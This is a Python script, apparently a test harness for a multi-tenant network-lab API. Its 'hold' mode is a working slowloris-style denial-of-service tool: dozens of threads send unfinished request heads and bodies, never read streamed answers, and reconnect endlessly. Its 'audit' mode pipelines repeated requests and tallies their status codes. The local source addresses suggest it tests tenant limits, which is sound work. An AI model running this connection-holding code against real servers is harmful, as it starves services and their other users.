"""Takes what a tenant can get of the API at ADDRESS:PORT with its TOKEN, over TLS, and goes on taking it. MODE:

hold     places for requests: bodies that never end, heads that never end, answers that are never read
audit    ROWS requests of each sort, one after the other
"""
import collections
import json
import socket
import ssl
import sys
import threading
import time

host, port, token, mode, *rest = sys.argv[1:]
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE


def connect(source):
    plain = socket.create_connection((host, int(port)), timeout=20, source_address=(source, 0))
    # What is not read is soon too much for the sender.
    plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    return context.wrap_socket(plain)


def head(method, path, length=None):
    lines = [f"{method} {path} HTTP/1.1", "Host: x", f"Authorization: Bearer {token}"]
    if length is not None:
        lines.append(f"Content-Length: {length}")
    return "\r\n".join(lines).encode()


met = collections.Counter()
lock = threading.Lock()


def note(what):
    with lock:
        if what not in met:
            print(what, flush=True)
        met[what] += 1


def hold(name, source, request):
    """One place, again whenever it is lost."""
    while True:
        try:
            with connect(source) as stream:
                stream.sendall(request)
                status = stream.recv(12)
                note(f"{name}: {status.decode()}")
                if status.endswith(b"200"):
                    time.sleep(1000)
        except OSError as error:
            # No connection, or one on which nothing is said as long as nothing comes.
            note(f"{name}: {'waits' if isinstance(error, TimeoutError) else 'closed'}")
        time.sleep(0.2)


def hold_all():
    end = b"\r\n\r\n"
    large, small = (head("POST", "/v1/apply", size) + end + b"{" for size in (24 << 20, 1 << 10))
    log = head("GET", "/v1/vnets/evil.lab/nodes/writes/logs/control?follow=true") + end
    capture = head("GET", "/v1/vnets/evil.lab/nodes/h1/ports/eth0/capture") + end
    places = [("body", "127.0.1.1", large)] * 4 + [("body", "127.0.1.1", small)] * 20
    places += [("stream", "127.0.1.2", log)] * 5 + [("stream", "127.0.1.2", capture)] * 5
    places += [("head", "127.0.1.3", head("GET", "/v1/vnets"))] * 40
    for place in places:
        threading.Thread(target=hold, args=place).start()


def audit(rows):
    change = json.dumps({"up": True}).encode()
    with connect("127.0.1.4") as stream:
        answers = stream.makefile("rb")
        for method, path, body in [
            ("GET", "/v1/vnets", b""),
            ("DELETE", "/v1/vnets/evil.none", b""),
            ("PUT", "/v1/vnets/evil.lab/links/link1", change),
        ]:
            request = head(method, path, len(body)) + b"\r\nContent-Type: application/json\r\n\r\n" + body
            for _ in range(rows):
                stream.sendall(request)
                status = answers.readline().split()[1].decode()
                length, chunked = 0, False
                while (line := answers.readline().strip().lower()) != b"":
                    name, value = line.split(b":", 1)
                    if name == b"content-length":
                        length = int(value)
                    chunked |= name == b"transfer-encoding"
                answers.read(length)
                while chunked and (size := int(answers.readline(), 16)) >= 0:
                    answers.read(size + 2)
                    chunked = size > 0
                note(f"{method}: {status}")
    print("all asked", flush=True)


if mode == "hold":
    hold_all()
else:
    audit(int(rest[0]))
